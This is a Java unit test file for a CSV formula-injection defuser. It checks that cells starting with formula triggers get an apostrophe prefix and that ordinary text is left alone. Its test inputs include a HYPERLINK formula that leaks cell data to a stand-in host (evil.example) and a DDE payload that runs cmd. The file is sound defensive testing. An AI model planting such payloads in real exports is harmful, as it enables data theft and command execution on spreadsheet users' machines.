package io.github.snowplowcollector.archive.events;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvFormulasTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil.example?\"&A1)",
                "=1",
                "+1+cmd|' /C calc'!A0",
                "-1+1",
                "-",
                "--1",
                "@SUM(A1)",
                "\t=1",
                "\t1",
                "\r1",
                "\n1",
                "    =1+1",
                "\u00a0=1",
                "\ufeff=1",
                "＝1+1",
                "＋1+1",
                "－1+1",
                "＠SUM(A1)",
                "-1.5e",
                "-1,5"
            })
    void defusesWhatASpreadsheetWouldRun(String text) {
        assertThat(CsvFormulas.DEFUSE.cell(text)).isEqualTo("'" + text);
        assertThat(CsvFormulas.KEEP.cell(text)).isEqualTo(text);
        assertThat(CsvFormulas.mayBeginWith(text.getBytes(UTF_8)[0])).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "shop",
                "-1.5",
                "+49301234567",
                "-.5",
                "-1e-7",
                " -1.5 ",
                "a=b",
                "1-1",
                "me@example.com",
                "https://example.com/?a=b",
                "'=1",
                " a - b"
            })
    void leavesTextsAndNumbers(String text) {
        assertThat(CsvFormulas.DEFUSE.cell(text)).isEqualTo(text);
    }
}
